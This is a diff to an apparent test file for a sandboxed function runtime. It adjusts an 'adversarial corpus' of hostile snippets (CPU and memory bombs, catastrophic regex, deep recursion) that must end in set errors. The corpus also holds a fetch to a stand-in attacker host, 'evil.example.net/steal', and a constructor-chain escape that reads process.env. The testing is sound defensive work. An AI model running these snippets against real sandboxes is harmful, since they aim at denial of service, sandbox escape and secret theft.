@@ -111,10 +111,14 @@ describe("adversarial corpus: each ends in its error and the next call works", (
     ["infinite loop", "export default () => { for (;;) {} }", "cpu_budget_exceeded"],
     ["catastrophic regex", "export default () => /^(a+)+$/.test('a'.repeat(40) + 'b')", "cpu_budget_exceeded"],
     ["deep recursion", "export default function f(n = 0) { return f(n + 1) + 1 }", "stack_overflow"],
-    ["allocation bomb", "export default () => { const a = []; for (;;) a.push({ s: 'x'.repeat(64) + Math.random() }) }", "memory_limit_exceeded"],
-    ["one huge allocation", "export default () => new Array(1e8).fill(0).length", "memory_limit_exceeded"],
-    ["native allocations between polls", "const keep = []; export default () => { for (let i = 0; i < 60; i++) keep.push(new Array(100000).fill(i)); return keep.length }", "memory_limit_exceeded"],
-    ["large strings between polls", "export default () => { const keep = []; for (;;) keep.push('x'.repeat(1e6) + keep.length) }", "memory_limit_exceeded"],
+    ["allocation bomb", "export default () => { const a = []; for (;;) a.push({ n: a.length, s: 'x' + Math.random() }) }", "memory_limit_exceeded"],
+    ["one huge allocation", "export default () => new Uint8Array(2e8).length", "memory_limit_exceeded"],
+    // Its cost (1e8 elements filled) is past the CPU budget, so it is refused before it allocates anything.
+    ["one huge fill", "export default () => new Array(1e8).fill(0).length", "cpu_budget_exceeded"],
+    ["native allocations between polls", "const keep = []; export default () => { for (let i = 0; i < 60; i++) keep.push(new Float64Array(100000).fill(i)); return keep.length }", "memory_limit_exceeded"],
+    ["large buffers between polls", "export default () => { const keep = []; for (;;) keep.push(new Uint8Array(1e6)) }", "memory_limit_exceeded"],
+    // Each repeat is charged 6 ms, so the budget runs out before the memory does.
+    ["large strings between polls", "export default () => { const keep = []; for (;;) keep.push('x'.repeat(1e6) + keep.length) }", "cpu_budget_exceeded"],
     ["huge result", "export default () => 'x'.repeat(2 * 1024 * 1024)", "result_too_large"],
     ["fetch to a host not allowed", "export const permissions = { net: ['api.example.com'] };\nexport default async () => (await fetch('https://evil.example.net/steal')).status", "permission_denied"],
     ["reach host objects", "export default () => globalThis.constructor.constructor('return process')().env", "script_error"],
@@ -140,6 +144,8 @@ describe("adversarial corpus: each ends in its error and the next call works", (
 
   it("huge logs are cut at the log limit with a note, and the call still answers", async () => {
     const { project } = await newProject("adv");
+    // 20,000 log calls cost ~130 ms of CPU (host crossings and formatting): past the default budget.
+    expect((await api("PATCH", `/v1/projects/${project}`, { json: { limits: { cpuMs: 2000 } } })).status).toBe(200);
     await upload(project, "function/chatty", "export default () => { for (let i = 0; i < 20000; i++) console.log('line', i, 'x'.repeat(100)); return 'done' }");
     const reply = await invoke(project, "function/chatty");
     expect(reply.body.ok).toBe(true);
